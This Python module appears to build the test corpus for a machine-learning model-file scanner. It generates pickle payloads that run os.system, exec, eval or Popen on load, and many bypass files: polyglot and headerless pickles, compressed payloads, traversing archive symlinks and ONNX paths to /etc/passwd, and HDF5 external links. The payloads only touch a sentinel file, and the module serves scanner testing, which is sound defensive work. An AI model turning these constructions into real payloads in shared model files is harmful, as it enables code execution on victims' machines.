"""Builds the scanner's test corpus: real malicious and benign model files, made here.

Malicious pickles carry payloads that would create a sentinel file if anything ever loaded them;
the tests prove the file never appears.
"""

from __future__ import annotations

import code
import functools
import gzip
import io
import operator
import os
import pickle
import pydoc
import struct
import subprocess
import sys
import tarfile
import timeit
import types
import zipfile
from collections import OrderedDict
from pathlib import Path
from typing import Any

import numpy as np
from safetensors.numpy import save as st_save


class _Reduce:
    def __init__(self, fn: Any, args: tuple[Any, ...]) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.fn, self.args


def malicious_payloads(sentinel: Path) -> dict[str, Any]:
    """Objects whose unpickling would touch ``sentinel``: one per attack technique."""
    touch = f"touch {sentinel}"
    create = f"open({str(sentinel)!r}, 'w').close()"
    inner = pickle.dumps(_Reduce(os.system, (touch,)), protocol=2)
    return {
        "os.system": _Reduce(os.system, (touch,)),
        "builtins.exec": _Reduce(exec, (create,)),
        "builtins.eval": _Reduce(eval, (create,)),
        "subprocess.Popen": _Reduce(subprocess.Popen, (["touch", str(sentinel)],)),
        "timeit.timeit": _Reduce(timeit.timeit, (create,)),
        "pydoc.pipepager": _Reduce(pydoc.pipepager, ("x", touch)),
        "operator.methodcaller": _Reduce(operator.methodcaller, ("system", touch)),
        "code.InteractiveInterpreter": _Reduce(code.InteractiveInterpreter, ()),
        "nested pickle.loads": _Reduce(pickle.loads, (inner,)),
    }


def malicious_pickles(sentinel: Path) -> dict[str, bytes]:
    """Every payload at every pickle protocol 0-5."""
    out = {}
    for name, payload in malicious_payloads(sentinel).items():
        for protocol in range(6):
            out[f"{name} p{protocol}"] = pickle.dumps(payload, protocol=protocol)
    return out


def torch_zip(pickle_bytes: bytes) -> bytes:
    """A PyTorch-style checkpoint archive: archive/data.pkl plus storages."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pickle_bytes)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", b"\x00" * 64)
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def benign_torch_pickle() -> bytes:
    """A state-dict pickle that references only torch's rebuild helpers (built without torch:
    stand-in modules give the globals torch's own names)."""
    fake_utils = types.ModuleType("torch._utils")
    fake_torch = types.ModuleType("torch")

    def _rebuild_tensor_v2(*args: Any) -> None: ...

    class FloatStorage:
        pass

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    FloatStorage.__module__ = "torch"
    FloatStorage.__qualname__ = "FloatStorage"
    fake_utils._rebuild_tensor_v2 = _rebuild_tensor_v2  # type: ignore[attr-defined]
    fake_torch.FloatStorage = FloatStorage  # type: ignore[attr-defined]
    saved = {k: sys.modules.get(k) for k in ("torch", "torch._utils")}
    sys.modules["torch"], sys.modules["torch._utils"] = fake_torch, fake_utils
    try:
        state = OrderedDict(
            [("layer.weight", _Reduce(_rebuild_tensor_v2, (FloatStorage, 0, (2, 2), (2, 1))))]
        )
        return pickle.dumps(state, protocol=2)
    finally:
        for key, value in saved.items():
            if value is None:
                sys.modules.pop(key, None)
            else:
                sys.modules[key] = value


def safetensors_bytes() -> bytes:
    rng = np.random.default_rng(0)
    return st_save({"w": rng.standard_normal((4, 3), dtype=np.float32),
                    "b": np.arange(3, dtype=np.int64)})  # fmt: skip


def safetensors_raw(
    header: dict[str, Any] | bytes, data: bytes, *, length: int | None = None
) -> bytes:
    import json

    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def malformed_safetensors() -> dict[str, bytes]:
    f32 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    return {
        "huge header length": safetensors_raw({"w": f32}, b"\x00" * 8, length=2**40),
        "header longer than the file": safetensors_raw({"w": f32}, b"", length=10_000),
        "overlapping offsets": safetensors_raw(
            {"a": f32, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}},
            b"\x00" * 12,
        ),
        "overflowing shape": safetensors_raw(
            {"w": {"dtype": "F64", "shape": [2**40, 2**40], "data_offsets": [0, 8]}}, b"\x00" * 8
        ),
        "trailing bytes": safetensors_raw({"w": f32}, b"\x00" * 8 + b"EXTRA"),
        "unknown dtype": safetensors_raw(
            {"w": {"dtype": "PYOBJ", "shape": [1], "data_offsets": [0, 8]}}, b"\x00" * 8
        ),
        "gap between tensors": safetensors_raw(
            {"a": f32, "b": {"dtype": "F32", "shape": [2], "data_offsets": [12, 20]}},
            b"\x00" * 20,
        ),
        "invalid JSON header": safetensors_raw(b'{"w": [1,2', b""),
        "offsets beyond data": safetensors_raw(
            {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\x00" * 8
        ),
    }


# -- ONNX (protobuf written by hand: no onnx package needed) -----------------------------------


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def onnx_model(location: str | None) -> bytes:
    """ModelProto{ir_version, graph{initializer{name, [external_data location], data_location}}}"""
    tensor = _field(8, b"weight") + _varint(2 << 3) + _varint(1)  # name, data_type=FLOAT
    if location is not None:
        entry = _field(1, b"location") + _field(2, location.encode())
        tensor += _field(13, entry) + _varint(14 << 3) + _varint(1)
    else:
        tensor += _field(9, b"\x00" * 16)  # raw_data
    node = _field(1, b"weight") + _field(4, b"Identity")
    graph = _field(1, node) + _field(2, b"g") + _field(5, tensor)
    return _varint(1 << 3) + _varint(8) + _field(2, b"modelseal-tests") + _field(7, graph)


def onnx_graph_only(location: str) -> bytes:
    """ModelProto{graph{initializer{name, type, dims, external_data location}}}: no ir_version,
    and every byte ASCII."""
    tensor = _field(8, b"weight") + _varint(2 << 3) + _varint(1) + _varint(5 << 3) + _varint(4)
    entry = _field(1, b"location") + _field(2, location.encode())
    tensor += _field(13, entry) + _varint(14 << 3) + _varint(1)
    return _field(7, _field(2, b"g") + _field(5, tensor))


# -- archives and others --------------------------------------------------------------------------


def zip_bytes(members: dict[str, bytes], *, compress: bool = True,
              symlink: str | None = None) -> bytes:  # fmt: skip
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        if symlink is not None:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = 0o120777 << 16
            archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def tar_bytes(members: dict[str, bytes], *, symlink: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        if symlink is not None:
            info = tarfile.TarInfo(symlink)
            info.type = tarfile.SYMTYPE
            info.linkname = "/etc/passwd"
            archive.addfile(info)
    return buffer.getvalue()


def keras_zip(layers: list[dict[str, Any]]) -> bytes:
    import json

    config = {"module": "keras", "class_name": "Sequential",
              "config": {"name": "m", "layers": layers}}  # fmt: skip
    return zip_bytes({
        "metadata.json": b'{"keras_version": "3.6.0"}',
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": HDF5_HEAD + b"\x00" * 48,
    })  # fmt: skip


DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 4}}
LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAA"}}},
}


#: an HDF5 signature and a version-0 superblock start (8-byte offsets and lengths)
HDF5_HEAD = b"\x89HDF\r\n\x1a\n" + b"\x00" * 5 + b"\x08\x08" + b"\x00"


def hdf5_with(config_json: bytes) -> bytes:
    return HDF5_HEAD + b"\x00" * 104 + config_json + b"\x00" * 200


def gguf_bytes(*, kv_count: int = 1, tensors: int = 0, bad_string: bool = False) -> bytes:
    key = b"general.name"
    value = b"tiny" if not bad_string else b""
    body = struct.pack("<Q", len(key)) + key + struct.pack("<I", 8)
    body += struct.pack("<Q", 2**40 if bad_string else len(value)) + value
    return b"GGUF" + struct.pack("<IQQ", 3, tensors, kv_count) + body


def npy_bytes(array: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def gzip_bytes(data: bytes) -> bytes:
    return gzip.compress(data)


# -- bypass classes: files built to slip past magic-byte detection ------------------------------


def _sbu(text: str | bytes) -> bytes:
    """SHORT_BINUNICODE opcode with its argument."""
    raw = text.encode() if isinstance(text, str) else text
    return b"\x8c" + bytes([len(raw)]) + raw


def npy_raw(descr: str, payload: bytes, *, shape: str = "(1,)", version: int = 1) -> bytes:
    """A .npy written by hand, so the header can spell its dtype any way NumPy reads it."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    prefix = 10 if version == 1 else 12
    header += " " * (-(prefix + len(header) + 1) % 64) + "\n"
    length = struct.pack("<H", len(header)) if version == 1 else struct.pack("<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + length + header.encode("latin-1") + payload


def v7_tar(members: dict[str, bytes], *, member_type: bytes = tarfile.REGTYPE) -> bytes:
    """A tar without the ``ustar`` magic (version 7 headers), as GNU tar still reads them."""
    out = io.BytesIO()
    for name, data in members.items():
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.type = member_type
        block = bytearray(info.tobuf(format=tarfile.USTAR_FORMAT)[:512])
        block[257:265] = b"\0" * 8  # no magic, no version
        block[148:156] = b" " * 8
        block[148:155] = f"{sum(block):06o}\0".encode()
        out.write(bytes(block) + data + b"\0" * (-len(data) % 512))
    out.write(b"\0" * 1024)
    return out.getvalue()


def onnx_reordered(location: str, *, doc: int = 10_000) -> bytes:
    """A big ModelProto whose graph comes before ir_version, with a long doc string first: the
    external-data entry sits far past any fixed window."""
    tensor = _field(8, b"weight") + _varint(2 << 3) + _varint(1)
    entry = _field(1, b"location") + _field(2, location.encode())
    tensor += _field(13, entry) + _varint(14 << 3) + _varint(1)
    graph = _field(2, b"g") + _field(5, tensor)
    return _field(6, b"d" * doc) + _field(7, graph) + _varint(1 << 3) + _varint(8)


def bypass_corpus(sentinel: Path) -> dict[str, bytes]:
    """One file per way of hiding code from a scanner that guesses formats by their first bytes."""
    import bz2
    import lzma

    import lz4.frame
    import zstandard

    touch = f"touch {sentinel}"
    p0 = f"cos\nsystem\n(S'{touch}'\ntR.".encode()
    headerless = _sbu("os") + _sbu("system") + b"\x93" + _sbu(touch) + b"\x85R."
    rce = pickle.dumps(malicious_payloads(sentinel)["os.system"], protocol=2)
    evil_object = pickle.dumps([malicious_payloads(sentinel)["builtins.eval"]], protocol=3)
    files = {
        "headerless.pkl": headerless,
        "frame first.pkl": b"\x95" + struct.pack("<Q", len(headerless)) + headerless,
        "X first.pkl": b"X" + struct.pack("<I", 5) + b"hello0" + headerless,
        "tuple first.pkl": b")0" + headerless,
        "run then crash.pkl": p0[:-1] + b"\xff\xfe not a pickle any more",
        "protocol 0 text.txt": p0,
        "INST.pkl": f"(S'{touch}'\nios\nsystem\n.".encode(),
        "memo operands.pkl": _sbu("os")
        + b"\x94"
        + _sbu("system")
        + b"\x94h\x00h\x01\x93"
        + _sbu(touch)
        + b"\x85R.",
        "extension code.pkl": b"\x80\x02\x82\x01)R.",
        "gguf polyglot.gguf": b"GGUF" + struct.pack("<I", 3) + b"\x00" + p0,
        "hdf5 polyglot.h5": p0 + b"\0" * (512 - len(p0)) + HDF5_HEAD + b"\0" * 240,
        "pickle then zip.zip": headerless + zip_bytes({"a.txt": b"hello"}),
        "lzma-alone.joblib": lzma.compress(rce, format=lzma.FORMAT_ALONE),
        "lz4.joblib": lz4.frame.compress(rce),
        "zstd.joblib": zstandard.ZstdCompressor().compress(rce),
        "bz2.pkl.bz2": bz2.compress(rce),
        "xz.pkl.xz": lzma.compress(rce),
        "object dtype O.npy": npy_raw("'O'", evil_object),
        "object dtype |O.npy": npy_raw("'|O'", evil_object, version=2),
        "object dtype object.npy": npy_raw("'object'", evil_object),
        "structured object field.npy": npy_raw("[('a', '<f4'), ('b', '|O')]", evil_object),
        "object field in npz.npz": zip_bytes({"w.npy": npy_raw("'O'", evil_object)}),
        "keras extra member.keras": _keras_with({"assets/helper.bin": rce}),
        "torch extra member.pt": _torch_with({"archive/extra/blob": rce}),
        "torch pickle in storage slot.pt": _torch_with({"archive/data/1": rce}),
        "duplicate zip names.pt": _duplicate_zip(benign_torch_pickle(), rce),
        "prefixed zip.pt": b"JUNK" * 100 + torch_zip(rce),
        "torchscript.pt": _torch_with(
            {"archive/code/__torch__/m.py": b"def forward(self): pass\n"}
        ),
        "v7 tar.tar": v7_tar({"model.pkl": rce}),
        "unknown tar member type.tar": v7_tar({"model.bin": rce}, member_type=b"Z"),
        "ustar unknown type.tar": _tar_typed("model.bin", rce, b"Z"),
        "onnx reordered traversal.onnx": onnx_reordered("../../secrets/weights.bin"),
        "onnx reordered absolute.onnx": onnx_reordered("/etc/passwd"),
        "onnx long location.onnx": onnx_reordered("w" * 5000 + "/../../../../etc/passwd"),
        "hdf5 spaced lambda.h5": hdf5_with(
            b'{"class_name" :\n  "Sequential", "config": {"layers": [{ "class_name"  :  '
            b'"Lambda", "config": {}}]}}'
        ),
        "hdf5 escaped lambda.h5": hdf5_with(
            b'{"class_name": "Sequential", "config": {"layers": '
            b'[{"\\u0063lass_name": "\\u004cambda", "config": {}}]}}'
        ),
        "hdf5 foreign module escaped.h5": hdf5_with(
            b'{"class_name": "Dense", "\\u006dodule": "o\\u0073", "config": {}}'
        ),
        "hdf5 embedded pickle.h5": hdf5_with(b'{"class_name": "Dense"}') + rce,
    }
    return files


@functools.cache
def bz2_bomb() -> bytes:
    """A small bz2 stream that inflates to 1 GiB."""
    import bz2

    compressor = bz2.BZ2Compressor(9)
    chunk = b"\0" * (16 * 1024 * 1024)
    out = b"".join(compressor.compress(chunk) for _ in range(64))
    return out + compressor.flush()


def _keras_with(extra: dict[str, bytes]) -> bytes:
    import json

    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "m", "layers": [DENSE]},
    }
    return zip_bytes(
        {
            "metadata.json": b'{"keras_version": "3.6.0"}',
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": HDF5_HEAD + b"\x00" * 48,
            **extra,
        }
    )


def _torch_with(extra: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", benign_torch_pickle())
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", b"\x00" * 64)
        archive.writestr("archive/version", "3\n")
        for name, data in extra.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _duplicate_zip(first: bytes, second: bytes) -> bytes:
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
            archive.writestr("archive/data.pkl", first)
            archive.writestr("archive/data.pkl", second)
    return buffer.getvalue()


def _tar_typed(name: str, data: bytes, member_type: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.type = member_type
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


# -- real-world files that must stay clean ------------------------------------------------------


def hf_repo() -> dict[str, bytes]:
    """The files of a Hugging Face style model repository."""
    import json

    rng = np.random.default_rng(1)
    shard = lambda i: st_save({f"layer{i}.w": rng.standard_normal((8, 8), dtype=np.float32)})  # noqa: E731
    vocab = {"[PAD]": 0, "[UNK]": 1, "hello": 2, "world": 3}
    return {
        "model-00001-of-00002.safetensors": shard(1),
        "model-00002-of-00002.safetensors": shard(2),
        "model.safetensors.index.json": json.dumps(
            {
                "metadata": {"total_size": 512},
                "weight_map": {"layer1.w": "model-00001-of-00002.safetensors"},
            }
        ).encode(),
        "config.json": json.dumps(
            {
                "architectures": ["TinyModel"],
                "hidden_size": 8,
                "model_type": "bert",
                "torch_dtype": "float32",
            }
        ).encode(),
        "generation_config.json": b'{"do_sample": false, "max_length": 32}\n',
        "tokenizer.json": json.dumps(
            {"version": "1.0", "model": {"type": "WordPiece", "vocab": vocab}}, ensure_ascii=False
        ).encode(),
        "tokenizer_config.json": b'{"model_max_length": 512, "do_lower_case": true}',
        "special_tokens_map.json": b'{"unk_token": "[UNK]", "pad_token": "[PAD]"}',
        "vocab.txt": "\n".join(vocab).encode() + "\nn\u00e4her\n".encode(),
        "merges.txt": "#version: 0.2\n\u0120 t\n\u0120 a\nh e\n".encode(),
        "README.md": (
            "---\nlicense: apache-2.0\n---\n# Tiny model \u2713\n\nN. Smith, 2026.\n".encode()
        ),
        ".gitattributes": b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
    }


def sentencepiece_model() -> bytes:
    """A real SentencePiece model trained here on a few lines of text."""
    import sentencepiece as spm

    text = ["the quick brown fox jumps over the lazy dog", "hello world", "modelseal scans"] * 50
    model = io.BytesIO()
    spm.SentencePieceTrainer.train(
        sentence_iterator=iter(text),
        model_writer=model,
        vocab_size=30,
        model_type="unigram",
        minloglevel=2,
    )
    return model.getvalue()


def onnx_real(*, doc: int = 20_000, external: bool = False, directory: Path | None = None) -> bytes:
    """A real ONNX model made with the onnx package (long doc string; optionally external data
    saved beside it in ``directory`` as ``weights.bin``)."""
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((64, 64), dtype=np.float32), name="w")
    node = helper.make_node("MatMul", ["x", "w"], ["y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 64])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 64])],
        [weight],
    )
    model = helper.make_model(graph, doc_string="d" * doc, producer_name="modelseal-tests")
    if not external:
        return model.SerializeToString()  # type: ignore[no-any-return]
    assert directory is not None
    onnx.save_model(
        model,
        str(directory / "model.onnx"),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="weights.bin",
        size_threshold=0,
    )
    return (directory / "model.onnx").read_bytes()


def keras_h5(config: dict[str, Any] | str) -> bytes:
    """A Keras 2 style HDF5 model written with h5py: the JSON config as the ``model_config``
    attribute, weights as datasets."""
    import json
    import tempfile

    import h5py

    text = config if isinstance(config, str) else json.dumps(config)
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.h5"
        with h5py.File(path, "w") as f:
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["backend"] = "tensorflow"
            f.attrs["model_config"] = text.encode()
            group = f.create_group("model_weights/dense")
            group.create_dataset("kernel:0", data=np.ones((4, 4), dtype=np.float32))
        return path.read_bytes()


SEQUENTIAL = {
    "class_name": "Sequential",
    "config": {
        "name": "m",
        "layers": [
            {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4]}},
            {"class_name": "Dense", "config": {"units": 4, "activation": "relu"}},
        ],
    },
}


def gguf_real() -> bytes:
    """A real GGUF file written with the gguf package."""
    import tempfile

    import gguf

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.gguf"
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_block_count(1)
        writer.add_string("general.name", "tiny")
        writer.add_array("tokenizer.ggml.tokens", ["a", "b", "c"])
        writer.add_tensor("w", np.ones((4, 32), dtype=np.float32))
        writer.add_tensor("b", np.ones((32,), dtype=np.float16))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


# -- holes an independent attacker found in the first fail-closed scanner -----------------------


def _zf_utf8(payload: bytes) -> bytes:
    """joblib's old ZF format whose every byte is UTF-8 (a stored zlib block of 0xC27F bytes,
    padding varied until the adler32 is ASCII): it once scanned as clean text."""
    import zlib

    size = 0xC27F
    for attempt in range(100_000):
        body = payload + str(attempt).rjust(20).encode() + b" " * (size - len(payload) - 20)
        check = struct.pack(">I", zlib.adler32(body))
        if all(0 < b < 0x80 for b in check):
            stream = b"\x78\x01\x01" + struct.pack("<HH", size, size ^ 0xFFFF) + body + check
            return b"ZF" + f"{size:#x}".encode().ljust(19) + stream
    raise AssertionError("no ASCII adler32 found")  # pragma: no cover


def _ascii_pax_tar(name: bytes, data: bytes, member_type: bytes = b"0",
                   link: bytes | None = None) -> bytes:  # fmt: skip
    """An all-ASCII tar whose checksum field starts with \\x1c, which tarfile strips (a copy of
    its checksum rule did not)."""

    def header(name100: bytes, size: int, typ: bytes) -> bytes:
        block = name100.ljust(100, b"_") + b"0000644 " + b"0000000 " * 2
        block += (b"%011o" % size).ljust(12) + b"00000000000 " + b" " * 8 + typ + b" " * 100
        block = block.ljust(512, b" ")
        check = 256 + sum(block[:148]) + sum(block[156:])
        return block[:148] + b"\x1c" + b"%06o" % check + b" " + block[156:]

    def pad(raw: bytes) -> bytes:
        return raw + b" " * (-len(raw) % 512)

    records = [(b"path", name)] + ([(b"linkpath", link)] if link else [])
    body = b""
    for key, value in records:
        record = b" %s=%s\n" % (key, value)
        n = len(record)
        n += len(str(n + len(str(n))))
        body += b"%d%s" % (n, record)
    return (
        header(b"paxhdr", len(body), b"x")
        + pad(body)
        + header(b"m", len(data), member_type)
        + pad(data)
    )


def _two_directories(evil: bytes, benign: bytes) -> bytes:
    """A benign zip appended to an evil one, its end record pointing back at the evil one's
    central directory: Python's zipfile reads the benign directory, miniz the evil one."""
    offset = zipfile._EndRecData(io.BytesIO(evil))[zipfile._ECD_OFFSET]  # type: ignore[attr-defined]
    end = benign.rindex(b"PK\x05\x06")
    patched = benign[: end + 16] + struct.pack("<I", offset) + benign[end + 20 :]
    return evil + patched


def _onnx_with_hdf5_signature() -> bytes:
    """An ONNX model with external data escaping the version and an HDF5 signature at byte 512
    of its doc string: a scanner that trusted the signature skipped the ONNX checks."""
    from onnx import TensorProto, helper

    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
    tensor.data_location = TensorProto.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", "../../../../etc/passwd"
    graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])],
                              initializer=[tensor])  # fmt: skip
    model = helper.make_model(graph)
    for pad in range(400, 520):
        model.doc_string = "A" * pad + "\x89HDF\r\n\x1a\n"
        raw: bytes = model.SerializeToString()
        if raw.find(b"\x89HDF\r\n\x1a\n") == 512:
            return raw
    raise AssertionError("could not place the signature")  # pragma: no cover


def attacker_corpus(sentinel: Path) -> dict[str, bytes]:
    import gzip
    import json

    p0 = f"cos\nsystem\n(S'touch {sentinel}'\ntR.".encode()
    evil_object = npy_raw("'|O'", p0)
    keras_config = json.dumps(
        {
            "module": "keras",
            "class_name": "Sequential",
            "config": {
                "name": "s",
                "layers": [
                    {"module": "keras.layers", "class_name": "Lambda", "config": {}},
                    {"module": "os", "class_name": "function", "config": "system"},
                ],
            },
        }
    )
    lambda_after_long_string = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4]}},
                {"class_name": "Lambda", "config": {"function": ["A" * 6000, None, None]}},
                {"class_name": "Dense", "config": {"units": 2}},
            ],
        },
    }
    import zlib

    return {
        "float line before code.pkl": b"F.5\n0" + p0,
        "float exponent line.pkl": b"F+.5e1\n0" + p0,
        "int after 70k spaces.pkl": b"I" + b" " * 70_000 + b"1\n0" + p0,
        "long after 70k spaces.pkl": b"L" + b" " * 70_000 + b"1L\n0" + p0,
        "memo key after 70k spaces.pkl": b"Np" + b" " * 70_000 + b"1\n0" + p0,
        "float line in torch zip.pt": zip_bytes(
            {"archive/data.pkl": b"F.5\n0" + p0, "archive/version": b"3\n"}, compress=False
        ),
        "float line gzipped.joblib": gzip.compress(b"F.5\n0" + p0),
        "joblib ZF.joblib": b"ZF" + b"0x49".ljust(19) + zlib.compress(p0),
        "joblib ZF in UTF-8.joblib": _zf_utf8(p0),
        "ascii tar, \\x1c checksum.pt": _ascii_pax_tar(b"storages", p0),
        "ascii tar link escape.tar": _ascii_pax_tar(
            b"evil", b"", b"2", b"../../../../home/user/.bashrc"
        ),
        "keras zip with decoy data.pkl.keras": zip_bytes(
            {
                "metadata.json": b'{"keras_version": "3.5.0"}',
                "config.json": keras_config.encode(),
                "model.weights.h5": b"",
                "data.pkl": b"hello\n",
            }
        ),
        "keras zip without metadata.keras": zip_bytes(
            {"config.json": keras_config.encode(), "model.weights.npz": b""}
        ),
        "object npy as torch storage.pt": zip_bytes(
            {"archive/data.pkl": b"hello\n", "archive/data/0": evil_object}
        ),
        "h5py lambda after a 6 KB string.h5": keras_h5(lambda_after_long_string),
        "onnx with an hdf5 signature.onnx": _onnx_with_hdf5_signature(),
        "zip with two central directories.pt": _two_directories(
            torch_zip(p0),
            zip_bytes({"archive/data.pkl": pickle.dumps({}, protocol=2)}, compress=False),
        ),
        "lzma-alone odd dictionary.joblib": _lzma_odd_dictionary(p0),
        "keras get_file gadget.keras": zip_bytes(
            {
                "metadata.json": b"{}",
                "model.weights.h5": b"",
                "config.json": b'{"module": "keras.utils", "class_name": "get_file", "config": {}}',
            }
        ),
        # the fourth round, against salvaged zlib/.lzma streams (see the helpers below)
        "short FRAME.pkl": short_frame(p0),
        "short FRAME, zip appended.pkl": short_frame(p0, 10**6) + zip_bytes({"a.txt": b"hi"}),
        "long dotted GLOBAL, UTF-8 text.pkl": long_dotted_global(sentinel),
        "cut-short zlib, short FRAME.joblib": _cut_short_zlib(short_frame(p0, 10**7)),
        "cut-short zlib carrying a zip.joblib": _cut_short_zlib(
            short_frame(p0, 10**7) + zip_bytes({"a.txt": b"hi"})
        ),
        "zlib failing after 2 MiB, zip appended.joblib": _zlib_failing_late(
            long_dotted_global(sentinel) + bytes(2 << 20)
        )
        + zip_bytes({"a.txt": b"hi"}),
        "lzma-alone odd dictionary, corrupt early.pkl": _lzma_corrupt_early(p0),
        # the fifth round: a memo key too long to read, C's NUL-ended numbers, zstd frames
        "memo key on a 70 KB line.pkl": b"I0\np" + b" " * 70_000 + b"1\n0g1\n0" + p0,
        "NUL-ended INT, zip appended.pkl": b"I12\x00junk\n0" + p0 + zip_bytes({"a.txt": b"hi"}),
        "NUL-ended memo keys.pkl": b"I1\np1\x00x\n0g1\x00y\n0" + p0,
        "zstd behind a skippable frame.pkl.zst": _zstd_skippable(p0) + zip_bytes({"a": b"hi"}),
        # the sixth round: an empty SETITEMS, MEMOIZE after an unreadable key, STOP in a frame
        "empty SETITEMS on a string, zip appended.pkl": (
            b"\x80\x04"
            + _sbu("os")
            + b"(u"
            + _sbu("system")
            + b"\x93"
            + _sbu(f"touch {sentinel}")
            + b"\x85R."
            + zip_bytes({"a.txt": b"hi"})
        ),
        "MEMOIZE after a 70 KB memo key.pkl": (
            b"\x80\x04"
            + _sbu("os")
            + b"p"
            + b" " * 70_000
            + b"0\n0K\x07\x940h\x00"
            + _sbu("system")
            + b"\x93"
            + _sbu(f"touch {sentinel}")
            + b"\x85R."
        ),
        "STOP inside a 9 KB frame, then a pickle.pkl": (
            short_frame(b"K\x01." + b"\xff" * 9000, 0) + p0 + zip_bytes({"a.txt": b"hi"})
        ),
        # the seventh round: a text line across a frame's end (C reads the rest from the file)
        "memo key line across a FRAME's end.pkl": _line_across_frame(p0) + zip_bytes({"a": b"b"}),
        # the eighth round: containers
        "Lambda named in escapes, windows cut inside one.h5": keras_h5(_escaped_lambda_config()),
        "tar member after a corrupt header.tar": (
            _tar_member("README.txt", b"hello\n")
            + b"\x01" * 512
            + _tar_member("model.pkl", p0)
            + bytes(1024)
        ),
        # ONNX without an ir_version, all ASCII (it read as text): its external data escapes
        "graph without ir_version, ASCII, data outside.onnx": onnx_graph_only("sub/../../x.bin"),
        # fields a protobuf parser skips: an unknown number, a known one with another wire type,
        # a group
        "graph, unknown field, data outside.onnx": onnx_graph_only("../x.bin") + b"\x60\x01",
        "graph, ir_version as fixed32, data outside.onnx": (
            onnx_graph_only("../x.bin") + b"\x0d1111"
        ),
        "graph, a group, data outside.onnx": onnx_graph_only("../x.bin") + b"\x63\x08\x01\x64",
        # pandas.read_hdf / PyTables unpickle string attributes and object arrays
        **pytables_attacks(sentinel),
        "dataset stored in an external file.h5": external_storage("/etc/passwd"),
        **{f"{name}.h5": data for name, data in other_files("/tmp/elsewhere.h5").items()},
        "external link kept in a link heap's ID.h5": huge_link_in_heap_id("/tmp/elsewhere.h5"),
        "external link past a link heap's declared block size.h5": (
            link_past_declared_block_size("/tmp/elsewhere.h5")
        ),
        "external link behind a decoy reading of its chunk.h5": (
            link_behind_decoy_chunk("/tmp/elsewhere.h5")
        ),
        "HDF5 pickle candidates that each parse to the end of the file.h5": stalling_hdf5(),
        "HDF5 pickle candidates that each read a line to the end of the file.h5": (
            long_line_stall()
        ),
    }


def stack_global_without_proto(sentinel: Path) -> bytes:
    """A protocol-0 style pickle (no PROTO header) that imports through STACK_GLOBAL: no
    ``\\x80`` and no ``c<module>\\n<name>\\n`` line for a byte search to find."""
    return b"Vos\nVsystem\n\x93(Vtouch " + str(sentinel).encode() + b"\ntR."


def pytables_attacks(sentinel: Path) -> dict[str, bytes]:
    """HDF5 files whose payload PyTables runs when an attribute or a row is read (pandas'
